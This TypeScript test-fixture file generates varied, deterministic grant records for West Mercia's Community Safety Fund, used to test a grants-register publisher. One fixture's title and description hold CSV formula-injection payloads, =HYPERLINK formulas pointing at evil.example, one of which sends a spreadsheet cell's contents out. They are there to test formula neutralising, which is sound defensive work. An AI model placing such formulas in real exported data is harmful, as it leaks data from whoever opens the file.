import type { Giving360Context } from './giving360';
import type { PublicationFacts } from './register-entry-builder';
import type { PublicArea, PublishingFunder } from './register-entry';

/**
 * Deterministic, varied publication facts for West Mercia, for unit, golden-file, end-to-end and benchmark
 * tests. Pure and dependency-free: the same i always gives the same facts, so golden files stay stable.
 */

export const WMPCC_PREFIX = '360G-wmpcc';

export const WEST_MERCIA_FUNDER: PublishingFunder = {
  name: 'Police and Crime Commissioner for West Mercia',
  organisationIdentifier: 'GB-GOR-PC000060',
  publisherPrefix: WMPCC_PREFIX,
};

export const WEST_MERCIA_FORCE_AREA: PublicArea = { code: 'E23000016', name: 'West Mercia', type: 'PFA' };

export const WEST_MERCIA_AREAS: readonly PublicArea[] = [
  { code: 'E06000019', name: 'Herefordshire', type: 'UA' },
  { code: 'E06000020', name: 'Telford and Wrekin', type: 'UA' },
  { code: 'E06000051', name: 'Shropshire', type: 'UA' },
  { code: 'E07000234', name: 'Bromsgrove', type: 'NMD' },
  { code: 'E07000235', name: 'Malvern Hills', type: 'NMD' },
  { code: 'E07000236', name: 'Redditch', type: 'NMD' },
  { code: 'E07000237', name: 'Worcester', type: 'NMD' },
  { code: 'E07000238', name: 'Wychavon', type: 'NMD' },
  { code: 'E07000239', name: 'Wyre Forest', type: 'NMD' },
];

/** West Mercia's context for one grant, with a grant page under the funder's (example) website. */
export function fixtureContext(grantId: string): Giving360Context {
  return {
    funder: WEST_MERCIA_FUNDER,
    forceArea: WEST_MERCIA_FORCE_AREA,
    grantUrl: `https://www.westmercia-pcc.example/grants/register/${grantId}`,
  };
}

const AIMS = [
  { code: 'A2', title: 'To reduce crime and disorder' },
  { code: 'A3', title: 'To protect communities from harm' },
  { code: 'A4', title: 'To provide a strong and powerful voice for the people and victims of crime' },
];

const OBJECTIVES = [
  {
    number: 3,
    aimCode: 'A2',
    title:
      'To reduce the volume of violent crime with an emphasis on addressing the harm caused by alcohol through partnership working',
  },
  {
    number: 4,
    aimCode: 'A2',
    title:
      'To reduce the harm caused by drugs with a focus on treatment, and targeting those that cause the most harm',
  },
  { number: 5, aimCode: 'A2', title: 'To reduce the volume of anti social behaviour incidents' },
  { number: 6, aimCode: 'A2', title: 'To bring offenders to account and reduce re-offending' },
  {
    number: 8,
    aimCode: 'A2',
    title:
      'To develop a strategy to empower local communities to actively engage in preventing crime and disorder',
  },
  {
    number: 9,
    aimCode: 'A3',
    title: 'To work in partnership to protect the most vulnerable people in our society',
  },
  {
    number: 10,
    aimCode: 'A3',
    title: 'To deliver a supportive and effective response to victims and witnesses',
  },
  {
    number: 11,
    aimCode: 'A3',
    title: 'To work with the Safer Roads Partnership to reduce the number of casualties on our roads',
  },
  { number: 13, aimCode: 'A4', title: 'To develop and implement a public engagement strategy' },
];

type Org = PublicationFacts['organisation'];
type OrgShape = Omit<Org, 'id' | 'addressLine2' | 'sensitive'> & {
  addressLine2?: string;
  sensitive?: boolean;
};
type Text = PublicationFacts['approvedText'];

const area = (name: string): PublicArea => WEST_MERCIA_AREAS.find((a) => a.name === name)!;

/**
 * Ten kinds of recipient, cycled by i. The text exercises CSV quoting and formula neutralising (commas,
 * quotes, newlines, a leading = - + @) and non-ASCII. The individual's name and address, and the
 * sensitive organisation's address, must never reach the published data.
 */
const KINDS: { org: OrgShape; text: Text }[] = [
  {
    org: {
      name: 'Friends of "The Hive", Worcester',
      legalForm: 'registered_charity',
      legalFormLabel: 'Registered charity',
      charityNumber: '1123456',
      companyNumber: null,
      addressLine1: '4 Foregate Street',
      town: 'Worcester',
      postcode: 'WR1 1DB',
      area: area('Worcester'),
    },
    text: {
      title: 'Safer evenings, safer streets',
      description: 'Youth club nights on Fridays, with detached youth workers in the city centre.',
    },
  },
  {
    org: {
      name: 'Ludlow Street Pastors CIO',
      legalForm: 'cio',
      legalFormLabel: 'Charitable incorporated organisation (CIO)',
      charityNumber: '1234567-1',
      companyNumber: null,
      addressLine1: 'St Laurence Parish Hall',
      addressLine2: 'Second Floor',
      town: 'Ludlow',
      postcode: 'SY8 1AN',
      area: area('Shropshire'),
    },
    text: {
      title: '=HYPERLINK("https://evil.example/?x="&A1,"Street Pastors")',
      description: '=HYPERLINK("https://evil.example","Click me") night-time economy volunteers.',
    },
  },
  {
    org: {
      name: 'Wyre Forest Community Transport Limited',
      legalForm: 'company_limited_by_guarantee',
      legalFormLabel: 'Company limited by guarantee',
      charityNumber: null,
      companyNumber: '01234567',
      addressLine1: 'Unit 3, Stourport Road',
      town: 'Kidderminster',
      postcode: 'DY11 7QT',
      area: area('Wyre Forest'),
    },
    text: {
      title: '- Safe journeys home',
      description:
        'A late-night minibus from Kidderminster town centre; drivers trained in "Ask for Angela".',
    },
  },
  {
    org: {
      name: 'Telford Boxing & Mentoring CIC',
      legalForm: 'community_interest_company',
      legalFormLabel: 'Community interest company (CIC)',
      charityNumber: null,
      companyNumber: '12345678',
      addressLine1: 'The Old Depot',
      town: 'Telford',
      postcode: 'TF3 4NB',
      area: area('Telford and Wrekin'),
    },
    text: {
      title: '@risk young people into boxing',
      description:
        'Weekly sessions for 11–16 year-olds at risk of exploitation.\nReferral via the youth offending service.',
    },
  },
  {
    org: {
      name: 'Borders Rural Watch',
      legalForm: 'registered_charity',
      legalFormLabel: 'Registered charity',
      charityNumber: 'SC012345',
      companyNumber: null,
      addressLine1: '2 Market Square',
      town: 'Kington',
      postcode: 'HR5 3BE',
      area: area('Herefordshire'),
    },
    text: {
      title: '+1 farm watch schemes',
      description: 'Extending farm watch, to cover 40 more farms; quad-bike marking.',
    },
  },
  {
    org: {
      name: 'Ulster-Marches Youth Exchange',
      legalForm: 'registered_charity',
      legalFormLabel: 'Registered charity',
      charityNumber: 'NIC100002',
      companyNumber: null,
      addressLine1: '10 Alcester Street',
      addressLine2: 'Second Floor',
      town: 'Redditch',
      postcode: 'B98 8AE',
      area: area('Redditch'),
    },
    text: {
      title: 'Cross-border youth exchange',
      description: 'Residential exchange for young people, tackling sectarian and racist hate crime.',
    },
  },
  {
    org: {
      name: "Malvern Link Residents' Association",
      legalForm: 'constituted_community_group',
      legalFormLabel: 'Constituted community group',
      charityNumber: null,
      companyNumber: null,
      addressLine1: 'c/o 21 Worcester Road',
      town: 'Malvern',
      postcode: 'WR14 1EX',
      area: area('Malvern Hills'),
    },
    text: {
      title: 'Café Watch: neighbourhood watch over coffee',
      description: 'Monthly drop-in café, where PCSOs meet residents; costs £1.50 a cup, first cup free.',
    },
  },
  {
    org: {
      name: 'Wychbold Parish Council',
      legalForm: 'parish_or_town_council',
      legalFormLabel: 'Parish or town council',
      charityNumber: null,
      companyNumber: null,
      addressLine1: 'Village Hall',
      town: 'Wychbold',
      postcode: 'WR9 7PD',
      area: area('Wychavon'),
    },
    text: {
      title: 'Speed indicator devices',
      description: 'Two solar speed indicator devices on the A38, with the Safer Roads Partnership.',
    },
  },
  {
    org: {
      name: 'Margaret Thistlewood',
      legalForm: 'individual',
      legalFormLabel: 'Individual',
      charityNumber: null,
      companyNumber: null,
      addressLine1: '7 Quarry Bank Cottages',
      town: 'Much Wenlock',
      postcode: 'TF13 6QQ',
      area: area('Shropshire'),
    },
    text: {
      title: 'Victim-led restorative justice training',
      description: 'Training as a restorative justice facilitator, after her own experience of burglary.',
    },
  },
  {
    org: {
      name: 'Sanctuary Housing for Women',
      legalForm: 'registered_charity',
      legalFormLabel: 'Registered charity',
      charityNumber: '1098765',
      companyNumber: '04567890',
      addressLine1: '99 Undisclosed Way',
      addressLine2: 'Refuge Annexe',
      town: 'Catshill',
      postcode: 'B61 0ZZ',
      area: area('Bromsgrove'),
      sensitive: true,
    },
    text: {
      title: 'Refuge outreach, "Safe at Home"',
      description:
        'Independent domestic violence advisers,\r\nout-of-hours helpline, and sanctuary measures.',
    },
  },
];

const pad = (n: number, width: number): string => String(n).padStart(width, '0');

/** YYYY-MM-DD of a UTC calendar date; day 0 is the last day of the month before, as Date.UTC allows. */
function isoDate(year: number, monthIndex: number, day: number): string {
  return new Date(Date.UTC(year, monthIndex, day)).toISOString().slice(0, 10);
}

/** Facts for the i-th fixture grant (i >= 0). Overrides replace whole top-level facts. */
export function registerFixture(i: number, overrides: Partial<PublicationFacts> = {}): PublicationFacts {
  const kind = KINDS[i % KINDS.length]!;
  const fundYearStart = 2013 + (i % 4);
  const fundYear = `${fundYearStart}/${pad((fundYearStart + 1) % 100, 2)}`;
  const monthsIntoYear = (i * 5) % 12;
  const awardMonthIndex = 3 + monthsIntoYear; // April = 3; Date.UTC rolls 12+ into the next year
  const awardDate = isoDate(fundYearStart, awardMonthIndex, 1 + ((i * 7) % 28));
  const duration = [12, 6, 18, 3, 24][i % 5]!;
  const startMonthIndex = awardMonthIndex + 1;
  const amountPence = 50_000 + ((i * 104_729) % 2_450_000);
  const paidPence = [0, amountPence, Math.floor(amountPence / 2)][i % 3]!;
  const objectives = Array.from(
    { length: 1 + (i % 3) },
    (_, k) => OBJECTIVES[(i + k * 4) % OBJECTIVES.length]!,
  );
  const aimCodes = new Set(objectives.map((o) => o.aimCode));
  const { sensitive = false, addressLine2 = null, ...org } = kind.org;

  const facts: PublicationFacts = {
    publisherPrefix: WMPCC_PREFIX,
    award: {
      id: `a0000000-0000-4000-8000-${pad(i, 12)}`,
      amountPence,
      paidPence,
      returnedPence: paidPence > 0 && i % 7 === 5 ? 1_000 : 0,
      endDate: isoDate(fundYearStart, startMonthIndex + duration, 0),
    },
    awardDate,
    approvedText: kind.text,
    organisation: {
      ...org,
      // One organisation per kind, so a recipient's identifier repeats across its grants as it would.
      id: `0a000000-0000-4000-8000-${pad(i % KINDS.length, 12)}`,
      addressLine2,
      sensitive,
    },
    application: {
      amountRequestedPence: amountPence + (i % 3) * 25_000,
      startDate: i % 6 === 3 ? null : isoDate(fundYearStart, startMonthIndex, 1),
    },
    fund: { key: 'community-safety-fund', name: 'Community Safety Fund' },
    fundYear,
    round: {
      id: `0b000000-0000-4000-8000-${pad(fundYearStart * 10 + (i % 2), 12)}`,
      title: `Community Safety Fund ${fundYear}, round ${1 + (i % 2)}`,
    },
    aims: AIMS.filter((a) => aimCodes.has(a.code)),
    objectives,
    conditions: [
      'Spend the grant only on the activities described.',
      'Report on outcomes within 3 months of the end date.',
    ],
    recommendationSummary: 'Meets the fund criteria; good value for money.',
    decisionReasons: 'Contributes to reducing crime and disorder in West Mercia.',
    beneficiaryAreas: Array.from(
      { length: i % 4 },
      (_, k) => WEST_MERCIA_AREAS[(i * 2 + k) % WEST_MERCIA_AREAS.length]!,
    ),
    coFunders: i % 5 === 2 ? [{ name: 'Worcestershire County Council', amountPence: 250_000 }] : [],
  };
  return { ...facts, ...overrides };
}

/** n fixtures, every kind of recipient appearing once in each ten. */
export function variedRegister(n: number): PublicationFacts[] {
  return Array.from({ length: n }, (_, i) => registerFixture(i));
}
